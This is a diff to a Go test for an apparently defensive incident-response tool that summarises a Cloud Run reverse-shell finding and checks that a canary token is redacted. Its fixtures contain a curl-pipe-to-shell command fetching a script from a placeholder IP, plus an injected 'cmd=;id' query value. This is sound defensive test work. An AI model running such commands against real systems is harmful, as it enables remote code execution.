@@ -105,7 +105,7 @@ func fullInput() Input {
 			Parent:  &f.Processes[0], Child: &f.Processes[1], Tactics: []string{"TA0002", "TA0011"}, Techniques: []string{"T1059.004", "T1105", "NEW_ONE"},
 			Exposure: assess.Public, ConfigRisks: []string{"allusers_invoker"}, Signals: evidence.Signals(logs, f),
 			Indicators: []command.Indicator{{Kind: "url", Value: "http://203.0.113.9/x.sh"}, {Kind: "hash", Value: strings.TrimPrefix(digest, "sha256:")}, {Kind: "ip", Value: "203.0.113.9"}, {Kind: "ip", Value: "203.0.113.9"}},
-			Unchecked:  []string{"VirusTotal: quota spent"}, Summary: "A reverse shell. Contain now.",
+			Unchecked:  []string{"VirusTotal: quota spent"}, Summary: "A reverse shell. Contain now.", Story: "Incident of 2: shell at 10:00, TOKEN=" + canary + " 10:01.",
 			Plan: []assess.Step{{ID: "keep", Phase: "evidence", Title: "Keep the logs", Why: "They expire", Command: "gcloud logging read 'x' --project=shop", Effect: "none", Undo: "none", Permission: "logging.logEntries.list"}},
 		},
 	}
@@ -167,20 +167,21 @@ func TestNew(t *testing.T) {
 		Time                                         string
 		Status, Tree, Command, Image, Account, Logs0 string
 		Deploy, Indicator, Key, Container            string
-		Related                                      int
+		Related, Muted                               int
+		Story                                        string
 		Categories                                   []Count
 		Source                                       Source
 		Page                                         string
 	}
 	got := view{
 		rec.SchemaVersion, rec.Time.Format(time.RFC3339Nano), rec.Status, rec.Process.Tree, rec.Process.Command, rec.Workload.Image, rec.Workload.ServiceAccount, rec.Logs.Excerpt[0],
-		rec.LastDeploy.String(), rec.Indicators[0].Value, rec.Workload.Key, rec.Workload.Container, rec.Incident.RelatedCount, rec.Incident.Categories, rec.Source(SourceVirusTotal), rec.Finding.CategoryPage,
+		rec.LastDeploy.String(), rec.Indicators[0].Value, rec.Workload.Key, rec.Workload.Container, rec.Incident.RelatedCount, rec.Incident.RelatedMuted, rec.Assessment.Story, rec.Incident.Categories, rec.Source(SourceVirusTotal), rec.Finding.CategoryPage,
 	}
 	want := view{
 		1, "2026-11-22T10:00:10Z", Partial, "java(1) > sh(17)", `sh -c 'curl -s http://203.0.113.9/x.sh | sh; mysql -p[REDACTED] -h db'`,
 		"europe-docker.pkg.dev/shop/r/checkout@" + digest, "123-compute@developer.gserviceaccount.com",
 		"09:59:58.123Z POST hxxps://checkout[.]example/upload?cmd=%3Bid&token=[REDACTED] 500 from 198[.]51[.]100[.]7",
-		"2026-11-22T09:59:00Z by dev@example.com revision checkout-00042-abc", "hxxp://203[.]0[.]113[.]9/x.sh", "run/shop/europe-west1/service/checkout", "app", 1,
+		"2026-11-22T09:59:00Z by dev@example.com revision checkout-00042-abc", "hxxp://203[.]0[.]113[.]9/x.sh", "run/shop/europe-west1/service/checkout", "app", 1, 1, "Incident of 2: shell at 10:00, TOKEN=[REDACTED] 10:01.",
 		[]Count{{"Reverse Shell", 1}},
 		Source{Name: SourceVirusTotal, State: "quota", Error: "virustotal quota spent (minute)", RetryAt: event.Add(time.Minute).Truncate(time.Second)},
 		"https://cloud.google.com/security-command-center/docs/findings/threats/cloud-run-unexpected-child-shell",
